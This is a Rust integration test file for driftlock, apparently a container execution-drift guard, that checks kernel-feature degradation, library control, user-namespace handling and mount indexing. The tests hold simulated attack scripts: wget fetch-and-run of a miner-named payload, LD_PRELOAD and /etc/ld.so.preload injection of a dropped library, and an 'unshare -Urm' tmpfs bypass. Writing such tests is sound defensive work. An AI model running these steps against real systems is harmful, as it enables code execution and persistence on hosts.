//! Kernels without a feature driftlock uses: the daemon degrades and says so, and never
//! refuses a container for it. (The guest matrix, `scripts/guest-test`, boots Debian's own
//! 5.10, 6.1 and 6.12 kernels for real; here a missing sysctl is made so for the daemon.)

use std::fs;
use std::io::{Read, Write};
use std::process::Command;

use nix::mount::{MntFlags, MsFlags, mount, umount2};

use crate::node::*;
use crate::support::BIN;

fn scrape(addr: &str) -> String {
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.write_all(b"GET /metrics HTTP/1.0\r\n\r\n").unwrap();
    let mut body = String::new();
    s.read_to_string(&mut body).unwrap();
    body
}

fn feature<'a>(status: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    status["features"]
        .as_array()
        .and_then(|fs| fs.iter().find(|f| f["name"] == name))
        .unwrap_or_else(|| panic!("no feature {name} in status: {status}"))
}

/// Hides `/proc/sys/vm` (so `vm.memfd_noexec`) from this test's mount namespace, which the
/// daemon and its helper share: what a kernel before 6.3 shows. Undone on drop.
struct NoMemfdSysctl;

impl NoMemfdSysctl {
    fn new() -> Self {
        mount(
            Some("tmpfs"),
            "/proc/sys/vm",
            Some("tmpfs"),
            MsFlags::empty(),
            Some("size=64k"),
        )
        .expect("tmpfs over /proc/sys/vm (private mount namespace)");
        assert!(!std::path::Path::new("/proc/sys/vm/memfd_noexec").exists());
        NoMemfdSysctl
    }
}

impl Drop for NoMemfdSysctl {
    fn drop(&mut self) {
        let _ = umount2("/proc/sys/vm", MntFlags::MNT_DETACH);
    }
}

fn dreambus(node: &Node, id: &str) -> String {
    let script = format!(
        "echo image-ok; wget -q -O /tmp/kdevtmpfsi {} && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi; echo payload=$?; ls / >/dev/null; echo ls=$?",
        node.payload_url()
    );
    let out = node.run(BUSYBOX, id, &[], &script);
    let t = text(&out);
    assert!(
        out.status.success(),
        "the container is created and runs: {t}"
    );
    assert!(t.contains("image-ok") && t.contains("ls=0"), "{t}");
    assert!(t.contains("payload=126"), "the payload is denied: {t}");
    t
}

/// Issue 25: on a kernel without `vm.memfd_noexec` (before 6.3) every container creation
/// was refused by default (`ArmError::Memfd`). Now the arm goes on without it, and the
/// log, `status` and the metric say what is not covered.
#[test]
fn issue_25_a_kernel_without_memfd_noexec_degrades_instead_of_refusing_containers() {
    let log = std::env::temp_dir().join(format!("driftlock-nomemfd-{}.log", std::process::id()));
    let _ = fs::remove_file(&log);
    let port = crate::support::free_port();
    let addr = format!("127.0.0.1:{port}");
    let redirect = format!("exec \"$0\" \"$@\" 2>>{}", log.display());
    let Some(mut node) = Node::with_daemon(
        "nomemfd",
        &["sh", "-c", &redirect],
        &["--metrics-addr", &addr],
    ) else {
        return;
    };
    assert_eq!(feature(&node.status(), "memfd_noexec")["available"], true);

    // 1. The sysctl disappears under a running daemon: the helper fails at the next arm.
    let hidden = NoMemfdSysctl::new();
    dreambus(&node, "nomemfd-1");
    let status = node.status();
    let f = feature(&status, "memfd_noexec");
    assert_eq!(f["available"], false, "{f}");
    assert!(
        f["not_covered"].as_str().unwrap().contains("fileless"),
        "status says what is not covered: {f}"
    );
    let body = scrape(&addr);
    assert!(
        body.contains("driftlock_kernel_feature{feature=\"memfd_noexec\"} 0"),
        "{body}"
    );
    assert!(body.contains("driftlock_kernel_feature{feature=\"exec_permission_events\"} 1"));
    let text_status = Command::new(BIN)
        .args(["status", "--socket"])
        .arg(&node.dl_socket)
        .output()
        .unwrap();
    let t = String::from_utf8_lossy(&text_status.stdout);
    assert!(t.contains("degraded") && t.contains("memfd_noexec"), "{t}");

    // 2. A daemon started on such a kernel: the probe finds it missing, one warning.
    node.kill_daemon();
    node.start_daemon();
    dreambus(&node, "nomemfd-2");
    let status = node.status();
    assert_eq!(feature(&status, "memfd_noexec")["available"], false);
    let armed = status["units"].as_array().unwrap();
    assert!(
        armed.iter().any(|u| u["id"] == "nomemfd-2") || armed.is_empty(),
        "{status}"
    );
    drop(hidden);

    let logged = fs::read_to_string(&log).unwrap_or_default();
    let _ = fs::remove_file(&log);
    assert_eq!(
        logged.matches("vm.memfd_noexec unavailable").count(),
        2,
        "one warning per daemon (the arm-time finding, then the start-time probe):\n{logged}"
    );
    assert!(
        !logged.contains("cannot block fileless execution"),
        "{logged}"
    );
}

/// `doctor` on this machine: the kernel has every core feature and lists the BPF LSM, but
/// refuses to load BPF LSM programs, so the gate is unavailable and protection degraded.
#[test]
fn doctor_json_on_this_machine() {
    if !crate::support::root_or_skip("doctor") {
        return;
    }
    let out = Command::new(BIN)
        .args([
            "doctor",
            "--json",
            "--socket",
            "/nonexistent/driftlock.sock",
        ])
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
    let features = report["features"].as_array().unwrap();
    for core in ["exec_permission_events", "filesystem_marks", "openat2"] {
        let f = features.iter().find(|f| f["name"] == core).unwrap();
        assert_eq!(f["available"], true, "{f}");
        assert_eq!(f["core"], true, "{f}");
    }
    let has = |n: &str| features.iter().find(|f| f["name"] == n).unwrap()["available"] == true;
    let release = report["kernel"].as_str().unwrap().to_string();
    assert_eq!(
        has("memfd_noexec"),
        std::path::Path::new("/proc/sys/vm/memfd_noexec").exists()
    );
    let gate_loads = has("mapping_gate");
    if !gate_loads {
        assert_eq!(out.status.code(), Some(1), "degraded: {report}");
        assert_eq!(report["verdict"], "degraded");
        assert!(
            report["gaps"]
                .as_array()
                .unwrap()
                .iter()
                .any(|g| g.as_str().unwrap().starts_with("mapping_gate:")),
            "{report}"
        );
    }
    assert!(report["lsm"]["list"].as_str().is_some());
    assert_eq!(
        report["daemon"]["ok"], false,
        "no daemon on a socket that does not exist: {report}"
    );
    eprintln!(
        "doctor on kernel {release}: verdict {}, gate loads: {gate_loads}",
        report["verdict"]
    );
    assert_eq!(report["libraries"]["ok"], gate_loads, "{report}");
    // With library control configured, dropped libraries are judged on any kernel.
    let config = std::env::temp_dir().join(format!("driftlock-doctor-{}.toml", std::process::id()));
    fs::write(&config, "library_control = true\n").unwrap();
    let with = Command::new(BIN)
        .args([
            "doctor",
            "--json",
            "--socket",
            "/nonexistent/driftlock.sock",
            "--config",
        ])
        .arg(&config)
        .output()
        .unwrap();
    let _ = fs::remove_file(&config);
    let with: serde_json::Value = serde_json::from_slice(&with.stdout).unwrap();
    assert_eq!(with["libraries"]["ok"], true, "{with}");
    assert!(
        with["libraries"]["detail"]
            .as_str()
            .unwrap()
            .contains("library control"),
        "{with}"
    );
    // The text form says the same.
    let text = Command::new(BIN)
        .args(["doctor", "--socket", "/nonexistent/driftlock.sock"])
        .output()
        .unwrap();
    assert_eq!(text.status.code(), out.status.code());
    assert!(String::from_utf8_lossy(&text.stdout).contains("verdict:"));
}

/// Builds the dropped library (its constructor prints EVIL-RAN) into `dir`.
fn evil_library(dir: &std::path::Path) -> Vec<u8> {
    let so = dir.join("evil.so");
    let src = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/guest/evil.c");
    let out = Command::new("cc")
        .args(["-O1", "-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(src)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::read(&so).unwrap()
}

/// The attack that only the mapping gate stopped: a library dropped in /tmp, in the rootfs
/// and on a volume, loaded by an image program through LD_PRELOAD and /etc/ld.so.preload.
const PRELOAD_SCRIPT: &str = "wget -q -O /tmp/evil.so $LIB; mkdir -p /usr/local/lib; wget -q -O /usr/local/lib/evil.so $LIB; \
     for l in /tmp/evil.so /usr/local/lib/evil.so /data/evil.so; do LD_PRELOAD=$l hello-dyn; echo \"preload $l=$?\"; done; \
     echo /tmp/evil.so > /etc/ld.so.preload; hello-dyn; echo preload-file=$?; rm /etc/ld.so.preload; \
     hello-dyn; echo hello=$?; ls /usr/bin >/dev/null; echo ls=$?";

/// Issue 25 (5): with `--library-control`, opens of shared objects not in the baseline are
/// refused (enforce) or recorded (audit) on every filesystem of the container; image
/// programs and their libraries run. On this machine the mapping gate does not load, so
/// without it the same attacks run (checked first).
#[test]
fn library_control_refuses_dropped_libraries_where_the_gate_cannot_load() {
    let Some(mut node) = Node::new("libctl") else {
        return;
    };
    let vol = node.dir.join("vol");
    let lib = Http::start(evil_library(&vol));
    let mount = format!("type=bind,src={},dst=/data,options=rbind:rw", vol.display());
    let script = PRELOAD_SCRIPT.replace("$LIB", &Node::url_of(&lib));
    // Without library control (and no gate here), each dropped library runs.
    let out = node.run(GLIBC, "lib-off", &["--mount", &mount], &script);
    let t = text(&out);
    assert_eq!(t.matches("EVIL-RAN").count(), 4, "{t}");

    node.kill_daemon();
    node.set_daemon_args(&["--annotations=any", "--library-control"]);
    node.start_daemon();
    let out = node.run(GLIBC, "lib-on", &["--mount", &mount], &script);
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(!t.contains("EVIL-RAN"), "no dropped library may load: {t}");
    assert_eq!(
        t.matches("hello from a dynamically linked program").count(),
        5,
        "the image program runs each time, without the library: {t}"
    );
    assert!(t.contains("hello=0") && t.contains("ls=0"), "{t}");
    let recs = node.records(4);
    let refused: Vec<_> = recs
        .iter()
        .filter(|r| r["unit"] == "lib-on" && r["reason"] == "library-not-in-baseline")
        .collect();
    assert!(refused.len() >= 4, "{recs:?}");
    assert!(
        refused
            .iter()
            .all(|r| r["verdict"] == "deny" && r["rule"] == "library")
    );
    for place in ["/tmp/evil.so", "/usr/local/lib/evil.so", "/data/evil.so"] {
        assert!(
            refused.iter().any(|r| r["path"] == place),
            "{place} is refused: {refused:?}"
        );
    }

    // Audit mode: nothing refused, each would-deny recorded.
    let out = node.run(
        GLIBC,
        "lib-audit",
        &["--mount", &mount, "--annotation", "driftlock.io/mode=audit"],
        &script,
    );
    let t = text(&out);
    assert_eq!(
        t.matches("EVIL-RAN").count(),
        4,
        "audit mode never blocks: {t}"
    );
    let recs = node.records(8);
    assert!(
        recs.iter().any(|r| r["unit"] == "lib-audit"
            && r["reason"] == "library-not-in-baseline"
            && r["verdict"] == "would-deny"),
        "{recs:?}"
    );
    // Status says what judges a dropped library in each container.
    let unit = node.run_detached(GLIBC, "lib-detached");
    assert_eq!(unit["libraries"], "library control", "{unit}");
    let status = node.status();
    assert!(
        status["stats"]["denied_by_reason"]["library-not-in-baseline"]
            .as_u64()
            .is_some_and(|n| n >= 4),
        "{status}"
    );
}

/// Issue 26 (1): a tenant that makes its own user and mount namespaces (`unshare -Urm`, no
/// privilege needed where user namespaces are open and the pod runs `Unconfined`) got
/// copies of the container's mounts with no mount mark, and a tmpfs of its own: a payload
/// on a bind volume, or copied to that tmpfs, ran. On kernels without the mapping gate the
/// wrapper now gives an enforce-mode container without a seccomp profile one that refuses
/// new user namespaces; an audit-mode container is left alone (audit never blocks).
#[test]
fn issue_26_a_tenants_own_user_namespace_cannot_reach_unmarked_mounts() {
    let Some(node) = Node::new("userns") else {
        return;
    };
    let vol = node.dir.join("vol");
    let mount = format!("type=bind,src={},dst=/data,options=rbind:rw", vol.display());
    let script = format!(
        "wget -q -O /data/p {url}; chmod +x /data/p; \
         /data/p; echo direct=$?; \
         unshare -Urm /data/p; echo userns=$?; \
         unshare -Urm sh -c 'mount -t tmpfs t /mnt && cp /data/p /mnt/x && /mnt/x'; echo newtmpfs=$?; \
         ls / >/dev/null; echo ls=$?",
        url = node.payload_url()
    );
    let t = node.run_logged(BUSYBOX, "userns-enforce", &["--mount", &mount], &script);
    assert!(!t.contains("payload ran"), "no way around the marks: {t}");
    assert!(t.contains("direct=126"), "{t}");
    assert!(!t.contains("userns=0") && !t.contains("newtmpfs=0"), "{t}");
    assert!(t.contains("ls=0"), "image programs run: {t}");
    // Status says so, per container.
    let unit = node.run_detached_with(BUSYBOX, "userns-status", &["--mount", &mount]);
    let said = |id: &str| -> String {
        node.status()["units"]
            .as_array()
            .and_then(|us| us.iter().find(|u| u["id"] == id))
            .map(|u| u["user_namespaces"].as_str().unwrap_or("").to_string())
            .unwrap_or_default()
    };
    wait_for(
        "the container's filter in status",
        std::time::Duration::from_secs(10),
        || said("userns-status").starts_with("a seccomp filter"),
    );
    drop(unit);
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "userns-status"]);
    // Audit mode never blocks: the namespace is made, and the payload (whose exec from the
    // unmarked copy is not seen) runs.
    let t = node.run_logged(
        BUSYBOX,
        "userns-audit",
        &["--mount", &mount, "--annotation", "driftlock.io/mode=audit"],
        &script,
    );
    assert!(t.contains("userns=0"), "{t}");
}

/// The resident helper that sets `vm.memfd_noexec` for arms (forked once, so an arm does
/// not fork the grown daemon): the value is set in the container's PID namespace and
/// nowhere else, and a helper that is gone is reported so the caller does it itself.
#[test]
fn the_resident_memfd_helper_sets_the_sysctl_in_that_pid_namespace_only() {
    if !crate::support::root_or_skip("memfd helper") {
        return;
    }
    let sysctl = "/proc/sys/vm/memfd_noexec";
    if !std::path::Path::new(sysctl).exists() {
        eprintln!("skipping the memfd helper test: no {sysctl} (kernel before 6.3)");
        return;
    }
    let host_before = fs::read_to_string(sysctl).unwrap();
    let mut outer = Command::new("unshare")
        .args(["--pid", "--fork", "sleep", "30"])
        .spawn()
        .unwrap();
    // The sleep is unshare's child, pid 1 of the new namespace.
    let children = format!("/proc/{0}/task/{0}/children", outer.id());
    let mut inner = 0;
    for _ in 0..200 {
        inner = fs::read_to_string(&children)
            .unwrap_or_default()
            .split_whitespace()
            .next()
            .and_then(|p| p.parse::<i32>().ok())
            .unwrap_or(0);
        if inner != 0 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert_ne!(inner, 0, "no process in the new PID namespace");
    let setter = driftlock::kernel::ns::MemfdSetter::start().unwrap();
    for _ in 0..3 {
        setter.set(inner, 2).unwrap();
    }
    let seen = Command::new("nsenter")
        .args(["-t", &inner.to_string(), "-p", "--", "cat", sysctl])
        .output()
        .unwrap();
    // The sleep first (unshare waits for it and exits), so nothing is left behind.
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(inner),
        nix::sys::signal::Signal::SIGKILL,
    );
    let _ = outer.wait();
    assert_eq!(String::from_utf8_lossy(&seen.stdout).trim(), "2");
    assert_eq!(
        fs::read_to_string(sysctl).unwrap(),
        host_before,
        "the node's value is untouched"
    );
    // A process that is gone: refused with the reason, not a helper fault.
    assert!(matches!(setter.set(inner, 2), Err(Some(_))));
    drop(setter);
}

/// The kernel release, where the mount index can be tested (root, and `statmount` with
/// mount options: 6.10+); `None` with the reason printed.
fn mount_index_kernel_or_skip() -> Option<String> {
    if !crate::support::root_or_skip("mount index") {
        return None;
    }
    let release = driftlock::kernel::features::kernel_release();
    if driftlock::kernel::features::parse_version(&release).is_none_or(|v| v < (6, 10)) {
        eprintln!("skipping: kernel {release} has no statmount with mount options");
        return None;
    }
    Some(release)
}

/// The mount index must follow mounts that keep their id: a mount moved elsewhere (from
/// a container's rootfs, or into one) and a remount. Before mount notifications it read
/// only new ids, and a moved mount kept its old mount point: an arm then planned marks
/// from where mounts had been. Here each change is followed by a look at the index, which
/// must be the table mountinfo gives; a look with nothing changed reads nothing.
#[test]
fn the_mount_index_follows_moved_and_remounted_mounts() {
    let Some(release) = mount_index_kernel_or_skip() else {
        return;
    };
    let dir = crate::private_ns::private_tmpfs("mountmove", "size=16m");
    for notifications in [true, false] {
        let mut index = if notifications {
            driftlock::kernel::mount_index::MountIndex::new()
        } else {
            driftlock::kernel::mount_index::MountIndex::without_notifications()
        };
        follow_moves_and_remounts(&dir.join(format!("notified {notifications}")), &mut index);
        eprintln!(
            "mount index on kernel {release}, notifications {}: {}",
            if notifications {
                "asked for"
            } else {
                "not asked for"
            },
            if index.has_notifications() {
                "they name what changed"
            } else {
                "every mount is read again after a change"
            }
        );
    }
    let _ = umount2(&dir, MntFlags::MNT_DETACH);
    let _ = fs::remove_dir(&dir);
}

fn follow_moves_and_remounts(
    dir: &std::path::Path,
    index: &mut driftlock::kernel::mount_index::MountIndex,
) {
    for d in ["a", "b", "c", "rootfs", "rootfs/tmp"] {
        fs::create_dir_all(dir.join(d)).unwrap();
    }
    let agrees = |index: &mut driftlock::kernel::mount_index::MountIndex, after: &str| {
        let table = index.table().unwrap();
        let text = fs::read("/proc/thread-self/mountinfo").unwrap();
        let mountinfo = driftlock::kernel::mountinfo::parse_mountinfo(&text).unwrap();
        assert_eq!(
            driftlock::kernel::mount_index::differences(&table, &mountinfo),
            None,
            "after {after}"
        );
        table
    };
    let first = agrees(index, "the first look");
    let again = index.table().unwrap();
    assert!(
        std::sync::Arc::ptr_eq(&first, &again),
        "nothing changed, yet the table was built again"
    );
    let at = |p: &str| dir.join(p);
    mount(
        Some("tmpfs"),
        &at("a"),
        Some("tmpfs"),
        MsFlags::empty(),
        Some("size=1m"),
    )
    .unwrap();
    fs::create_dir_all(at("a/sub")).unwrap();
    mount(
        Some("tmpfs"),
        &at("a/sub"),
        Some("tmpfs"),
        MsFlags::empty(),
        Some("size=1m"),
    )
    .unwrap();
    agrees(index, "two mounts");
    // Moved into the "container's" rootfs with the mount below it, which no notification
    // names: the arm must see both there.
    mount(
        Some(&at("a")),
        &at("rootfs/tmp"),
        None::<&str>,
        MsFlags::MS_MOVE,
        None::<&str>,
    )
    .unwrap();
    let table = agrees(index, "a move");
    assert!(
        table.iter().any(|m| m.mount_point == at("rootfs/tmp"))
            && table.iter().any(|m| m.mount_point == at("rootfs/tmp/sub")),
        "the moved mounts are where they went: {table:?}"
    );
    mount(
        None::<&str>,
        &at("rootfs/tmp"),
        None::<&str>,
        MsFlags::MS_REMOUNT | MsFlags::MS_RDONLY,
        Some("size=2m"),
    )
    .unwrap();
    agrees(index, "a remount");
    // A move and a new mount between two looks, and a mount moved out again.
    mount(
        Some("tmpfs"),
        &at("c"),
        Some("tmpfs"),
        MsFlags::empty(),
        Some("size=1m"),
    )
    .unwrap();
    mount(
        Some(&at("rootfs/tmp")),
        &at("b"),
        None::<&str>,
        MsFlags::MS_MOVE,
        None::<&str>,
    )
    .unwrap();
    let table = agrees(index, "a mount and a move");
    assert!(
        !table
            .iter()
            .any(|m| m.mount_point.starts_with(at("rootfs"))),
        "nothing is left under the rootfs: {table:?}"
    );
}

/// A directory renamed above a mount point moves the mount point with no mount event: the
/// daemon's mount index (where the kernel has one) still holds the old path. An arm whose
/// paths the index cannot place reads every mount again and plans once more, so the
/// container is armed, with the mounts discovered under its new path.
#[test]
fn an_arm_after_a_rename_above_its_mounts_plans_from_the_table_read_anew() {
    use crate::support::{EPERM, Sandbox, exec};
    if !crate::support::root_or_skip("rename above a rootfs") {
        return;
    }
    let mut sb = Sandbox::new("rename-above");
    let old = sb.dir.join("x");
    for d in ["y/upper", "y/work", "y/root"] {
        fs::create_dir_all(old.join(d)).unwrap();
    }
    let opts = format!(
        "lowerdir={},upperdir={},workdir={}",
        sb.dir.join("lower").display(),
        old.join("y/upper").display(),
        old.join("y/work").display()
    );
    mount(
        Some("overlay"),
        &old.join("y/root"),
        Some("overlay"),
        MsFlags::empty(),
        Some(opts.as_str()),
    )
    .unwrap();
    fs::create_dir_all(old.join("y/root/a/tmp")).unwrap();
    mount(
        Some("tmpfs"),
        &old.join("y/root/a/tmp"),
        Some("tmpfs"),
        MsFlags::empty(),
        Some("mode=1777"),
    )
    .unwrap();
    sb.start_daemon(&[]);
    // The first arm reads the mount table (these mounts with it).
    sb.arm("first", &[]);
    let arm_discovering = |id: &str, rootfs: &std::path::Path, after: &str| {
        let out = sb.client(&[
            "arm",
            "--id",
            id,
            "--rootfs",
            rootfs.to_str().unwrap(),
            "--discover-mounts",
        ]);
        assert!(
            out.status.success(),
            "arm after {after}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    // Above the rootfs: the rootfs itself is not where the index has it.
    let new = sb.dir.join("w");
    fs::rename(&old, &new).unwrap();
    let rootfs = new.join("y/root");
    arm_discovering("renamed", &rootfs, "a rename above the rootfs");
    let payload = rootfs.join("a/tmp/payload");
    sb.install(crate::support::PAYLOAD_SOURCE, &payload);
    assert_eq!(
        exec(&payload),
        EPERM,
        "the tmpfs below the renamed rootfs is armed"
    );
    // Inside it, above its tmpfs: the rootfs is placed, the tmpfs's old path is gone.
    let out = sb.client(&["disarm", "--id", "renamed"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::rename(rootfs.join("a"), rootfs.join("b")).unwrap();
    arm_discovering("renamed-inside", &rootfs, "a rename inside the rootfs");
    assert_eq!(
        exec(&rootfs.join("b/tmp/payload")),
        EPERM,
        "the tmpfs below the renamed directory is armed"
    );
    sb.kill_daemon();
    let _ = umount2(&rootfs.join("b/tmp"), MntFlags::MNT_DETACH);
    let _ = umount2(&rootfs, MntFlags::MNT_DETACH);
}

/// Where the kernel has `listmount` and `statmount` with options (6.10+), the daemon keeps
/// its mount table as an index by mount id instead of reading mountinfo at each arm. The
/// index must be the very table mountinfo gives: here with overlays whose layer paths hold
/// a space, a newline and non-UTF-8 bytes, a read-only tmpfs with options, and a bind mount.
#[test]
fn the_mount_index_is_the_table_mountinfo_gives() {
    use std::os::unix::ffi::OsStrExt;
    if mount_index_kernel_or_skip().is_none() {
        return;
    }
    let dir = crate::private_ns::private_tmpfs("mountindex", "size=64m");
    let odd = std::ffi::OsStr::from_bytes(b"lower one\ncaf\xe9");
    let lower = dir.join(odd);
    let lower2 = dir.join("lower two");
    for d in [&lower, &lower2] {
        fs::create_dir_all(d.join("bin")).unwrap();
    }
    for i in 0..3 {
        let u = dir.join(format!("unit {i}"));
        for sub in ["upper", "work", "root"] {
            fs::create_dir_all(u.join(sub)).unwrap();
        }
        let mut opts = b"lowerdir=".to_vec();
        opts.extend_from_slice(lower.as_os_str().as_bytes());
        opts.push(b':');
        opts.extend_from_slice(lower2.as_os_str().as_bytes());
        opts.extend_from_slice(b",upperdir=");
        opts.extend_from_slice(u.join("upper").as_os_str().as_bytes());
        opts.extend_from_slice(b",workdir=");
        opts.extend_from_slice(u.join("work").as_os_str().as_bytes());
        mount(
            Some("overlay"),
            &u.join("root"),
            Some("overlay"),
            MsFlags::empty(),
            Some(std::ffi::OsStr::from_bytes(&opts)),
        )
        .unwrap();
        mount(
            Some("tmpfs"),
            &u.join("root/bin"),
            Some("tmpfs"),
            MsFlags::MS_RDONLY | MsFlags::MS_NOSUID,
            Some("size=1m,mode=0711"),
        )
        .unwrap();
    }
    let bound = dir.join("bound here");
    fs::create_dir_all(&bound).unwrap();
    mount(
        Some(&dir.join("unit 0/root")),
        &bound,
        None::<&str>,
        MsFlags::MS_BIND,
        None::<&str>,
    )
    .unwrap();
    // This thread's namespace (the test process's own `/proc/self` is another thread's).
    let text = fs::read("/proc/thread-self/mountinfo").unwrap();
    let mountinfo = driftlock::kernel::mountinfo::parse_mountinfo(&text).unwrap();
    let index = driftlock::kernel::mount_index::table_by_statmount().unwrap();
    let overlays = index.iter().filter(|m| m.fstype == "overlay").count();
    assert!(overlays >= 4, "the overlays are listed: {index:?}");
    assert!(
        index.iter().any(|m| m
            .mount_point
            .as_os_str()
            .as_bytes()
            .ends_with(b"unit 1/root")
            && m.super_options
                .windows(odd.len())
                .any(|w| w == odd.as_bytes())),
        "the overlay's layer path is read back byte for byte: {index:?}"
    );
    assert_eq!(
        driftlock::kernel::mount_index::differences(&index, &mountinfo),
        None
    );
    let _ = umount2(&dir, MntFlags::MNT_DETACH);
    let _ = fs::remove_dir(&dir);
}
